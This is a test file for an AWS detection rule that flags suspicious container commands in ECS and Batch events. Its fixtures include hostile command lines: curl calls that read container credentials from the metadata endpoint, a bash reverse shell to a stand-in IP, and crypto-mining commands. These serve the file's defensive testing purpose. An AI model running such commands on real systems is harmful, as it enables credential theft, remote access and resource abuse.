import { expect, it } from 'vitest';
import { DEPLOY } from '../../test/aws-actors.js';
import { awsEvent, DENIED, verdict } from '../../test/aws-event.js';
import detection from './container-command.js';

const REGISTER = 'ecs:RegisterTaskDefinition';
const task = (...command: string[]) => ({ family: 'web', containerDefinitions: [{ name: 'c', command }] });

it.each([
  ['an ordinary command', awsEvent(REGISTER, task('node', 'server.js')), 'log/low'],
  [
    'reading credentials',
    awsEvent(REGISTER, task('sh', '-c', 'curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI')),
    'alert/high',
  ],
  [
    'reading credentials, by a machine',
    awsEvent(REGISTER, task('curl 169.254.170.2/v2/credentials'), DEPLOY),
    'alert/high',
  ],
  [
    'looking up the own address',
    awsEvent(REGISTER, task('curl http://169.254.169.254/latest/meta-data/local-ipv4')),
    'log/low',
  ],
  [
    'calling home',
    awsEvent(REGISTER, task('bash', '-c', 'bash -i >& /dev/tcp/203.0.113.7/443 0>&1')),
    'alert/high',
  ],
  [
    'mining, in an override',
    awsEvent('ecs:RunTask', {
      overrides: { containerOverrides: [{ command: ['x', '-o', 'stratum+tcp://pool'] }] },
    }),
    'alert/high',
  ],
  [
    'mining, as a job',
    awsEvent('batch:SubmitJob', { jobName: 'j', containerOverrides: { command: ['xmrig'] } }),
    'alert/high',
  ],
  ['an ordinary job', awsEvent('batch:SubmitJob', { jobName: 'j' }), 'log/low'],
  ['a shell', awsEvent('ecs:ExecuteCommand', { task: 't' }), 'notify/low'],
  ['a failed try', awsEvent(REGISTER, task('xmrig'), DENIED), 'notify/high'],
  ['a look', awsEvent('ecs:DescribeTaskDefinition', null), 'none'],
])('%s', (_, event, expected) => {
  expect(verdict(detection, event)).toBe(expected);
});

it('says what was done', () => {
  expect(detection.says(awsEvent(REGISTER, task()))).toBe('wrote down how to run the containers web');
});
